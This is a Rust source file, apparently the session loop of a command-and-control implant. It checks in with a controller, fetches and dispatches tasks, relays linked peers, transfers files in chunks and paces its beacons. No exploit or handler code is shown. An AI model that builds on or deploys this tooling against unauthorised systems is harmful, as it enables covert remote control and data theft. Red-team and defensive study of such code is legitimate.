//! Session loop
//!
//! One cycle flushes the outbound queue, asks for new tasks, dispatches
//! them, then pumps linked peers and downloads before sleeping. A failed
//! flush or tasking exchange ends the cycle early; nothing short of a
//! failed checkin ends the loop.

use crate::config::AgentConfig;
use crate::dispatch::{Dispatcher, Handler, Task, TaskContext};
use crate::error::AgentError;
use crate::queue::OutboundQueue;
use crate::relay::LinkRelay;
use crate::transfer::{TransferManager, UploadChunk};
use bytes::Bytes;
use std::path::PathBuf;
use std::sync::Arc;
use tether_proto::wire::CHUNK_SIZE;
use tether_proto::{records, Ack, AckBatch, CheckinInfo, Envelope, Message, SessionId, TaskingReply, WireId};
use tether_transport::{ChannelConnector, EndpointList, Transport, TransportSelector};
use tokio::sync::oneshot;
use tracing::{debug, error, info, warn};

/// A running session with the controller
pub struct Session {
    id: SessionId,
    payload: WireId,
    envelope: Envelope,
    tasks_per_request: u32,
    dispatcher: Dispatcher,
    ctx: TaskContext,
    /// Shutdown signal receiver
    shutdown_rx: Option<oneshot::Receiver<()>>,
    /// Shutdown signal sender (kept for graceful shutdown)
    shutdown_tx: Option<oneshot::Sender<()>>,
}

impl Session {
    /// Create a session from configuration; no handlers are registered
    pub fn new(
        config: &AgentConfig,
        transport: Arc<dyn Transport>,
        connector: Arc<dyn ChannelConnector>,
        envelope: Envelope,
    ) -> Result<Self, AgentError> {
        config.validate().map_err(|e| AgentError::Config(e.to_string()))?;
        let payload = config.payload_id().map_err(|e| AgentError::Config(e.to_string()))?;

        let endpoints = EndpointList::new(config.endpoints.clone())?;
        let selector = Arc::new(TransportSelector::new(transport, endpoints, config.selector()));
        let queue = Arc::new(OutboundQueue::new(config.max_request_bytes));
        let cwd = std::env::current_dir().unwrap_or_else(|_| PathBuf::from("."));

        let ctx = TaskContext {
            selector,
            pacing: config.pacing(),
            transfers: TransferManager::new(queue.clone(), CHUNK_SIZE),
            relay: LinkRelay::new(connector, queue.clone()),
            queue,
            cwd,
            default_channel: config.channel_name.clone(),
            stop: false,
        };

        let (shutdown_tx, shutdown_rx) = oneshot::channel();
        Ok(Self {
            id: payload,
            payload,
            envelope,
            tasks_per_request: config.tasks_per_request,
            dispatcher: Dispatcher::new(),
            ctx,
            shutdown_rx: Some(shutdown_rx),
            shutdown_tx: Some(shutdown_tx),
        })
    }

    /// Register a handler for a command
    pub fn register_handler(&mut self, command: u8, handler: Arc<dyn Handler>) {
        self.dispatcher.register(command, handler);
    }

    /// Handlers, for bulk registration
    pub fn dispatcher_mut(&mut self) -> &mut Dispatcher {
        &mut self.dispatcher
    }

    /// Get shutdown sender for graceful shutdown
    pub fn shutdown_sender(&mut self) -> Option<oneshot::Sender<()>> {
        self.shutdown_tx.take()
    }

    /// Current session id
    pub fn id(&self) -> SessionId {
        self.id
    }

    /// Outbound queue
    pub fn queue(&self) -> &Arc<OutboundQueue> {
        &self.ctx.queue
    }

    /// Handler state
    pub fn context(&self) -> &TaskContext {
        &self.ctx
    }

    /// Whether an exit task has stopped the session
    pub fn is_stopped(&self) -> bool {
        self.ctx.stop
    }

    async fn exchange(&self, message: &Message) -> Result<Vec<u8>, AgentError> {
        let sealed = self.envelope.seal(message)?;
        let reply = self.ctx.selector.exchange(&sealed, true, &self.ctx.pacing).await;
        Ok(self.envelope.open(&reply, &self.id)?)
    }

    /// Register with the controller and adopt the session id it assigns
    pub async fn checkin(&mut self, info: &CheckinInfo) -> Result<(), AgentError> {
        self.id = self.payload;
        let request = records::checkin(&self.payload, info)?;
        let reply = self
            .exchange(&request)
            .await
            .map_err(|e| AgentError::Checkin(e.to_string()))?;
        let session = records::parse_checkin_reply(&reply).map_err(|e| AgentError::Checkin(e.to_string()))?;
        info!("Checked in, session {}", session);
        self.id = session;
        Ok(())
    }

    /// Send queued records and act on the acknowledgements
    pub async fn flush(&mut self) -> Result<(), AgentError> {
        let Some(batch) = self.ctx.queue.begin_flush(&self.id).await? else {
            return Ok(());
        };
        let sealed = match self.envelope.seal(&batch) {
            Ok(sealed) => sealed,
            Err(e) => {
                self.ctx.queue.rollback().await;
                return Err(e.into());
            }
        };
        drop(batch);

        let reply = self.ctx.selector.exchange(&sealed, true, &self.ctx.pacing).await;
        let sent = self.ctx.queue.commit().await;
        debug!("Flushed {} records", sent);

        let acks = match self.envelope.open(&reply, &self.id) {
            Ok(acks) => acks,
            Err(e) => {
                warn!("Discarding flush reply: {}", e);
                return Ok(());
            }
        };
        self.route_acks(&acks).await;
        Ok(())
    }

    async fn route_acks(&mut self, reply: &[u8]) {
        if reply.is_empty() {
            return;
        }
        let batch = match AckBatch::parse(reply) {
            Ok(batch) => batch,
            Err(e) => {
                warn!("Malformed acknowledgement batch: {}", e);
                return;
            }
        };
        for entry in batch {
            let entry = match entry {
                Ok(entry) => entry,
                Err(e) => {
                    warn!("Malformed acknowledgement: {}", e);
                    break;
                }
            };
            match entry.ack {
                Ack::Normal => {
                    if !entry.ok {
                        debug!("Controller rejected a record");
                    }
                }
                Ack::Download { task, file } => {
                    self.ctx.transfers.sync_download(&task, file, entry.ok).await;
                }
                Ack::Upload {
                    task,
                    total,
                    current,
                    chunk,
                } => {
                    self.ctx.transfers.sync_upload(
                        &task,
                        UploadChunk {
                            ok: entry.ok,
                            total,
                            current,
                            data: Bytes::copy_from_slice(chunk),
                        },
                    );
                }
                Ack::Delegate(delegate) => {
                    if let Some(link_id) = delegate.link_id {
                        self.ctx.relay.checkin_sync(link_id, &delegate.peer).await;
                    }
                    self.ctx.relay.forward(&delegate.peer, delegate.message).await;
                }
            }
        }
    }

    /// Ask for new tasks, forward peer traffic that came with them, then
    /// dispatch them in order
    pub async fn get_tasking(&mut self) -> Result<(), AgentError> {
        let request = records::get_tasking(&self.id, self.tasks_per_request)?;
        let reply = self.exchange(&request).await?;
        let tasking = TaskingReply::parse(&reply)?;

        for delegate in &tasking.delegates {
            self.ctx.relay.forward(&delegate.peer, delegate.message).await;
        }

        let mut tasks = Vec::new();
        for record in tasking.tasks {
            match record {
                Ok(record) => tasks.push(Task::from(&record)),
                Err(e) => {
                    warn!("Malformed task record: {}", e);
                    break;
                }
            }
        }
        if !tasks.is_empty() {
            debug!("Received {} tasks", tasks.len());
        }
        for task in &tasks {
            self.dispatcher.dispatch(&mut self.ctx, task).await;
        }
        Ok(())
    }

    /// One full cycle, without the sleep
    pub async fn run_cycle(&mut self) {
        if let Err(e) = self.flush().await {
            warn!("Flush failed: {}", e);
            return;
        }
        if let Err(e) = self.get_tasking().await {
            warn!("Tasking failed: {}", e);
            return;
        }
        self.ctx.relay.pump().await;
        self.ctx.transfers.pump_downloads().await;
    }

    /// Check in, then run cycles until an exit task or the shutdown signal
    pub async fn run(&mut self, info: &CheckinInfo) -> Result<(), AgentError> {
        info!("Starting session loop");
        self.checkin(info).await?;

        let mut shutdown_rx = self.shutdown_rx.take();
        loop {
            self.run_cycle().await;

            if self.ctx.stop {
                if let Err(e) = self.flush().await {
                    error!("Final flush failed: {}", e);
                }
                info!("Exit task received, stopping session loop");
                break;
            }

            let delay = self.ctx.pacing.next_delay();
            let closed = match shutdown_rx.as_mut() {
                Some(rx) => tokio::select! {
                    result = rx => match result {
                        Ok(()) => {
                            info!("Received shutdown signal, stopping session loop");
                            break;
                        }
                        Err(_) => true,
                    },
                    _ = tokio::time::sleep(delay) => false,
                },
                None => {
                    tokio::time::sleep(delay).await;
                    false
                }
            };
            if closed {
                shutdown_rx = None;
                tokio::time::sleep(delay).await;
            }
        }

        info!("Session loop stopped");
        Ok(())
    }
}
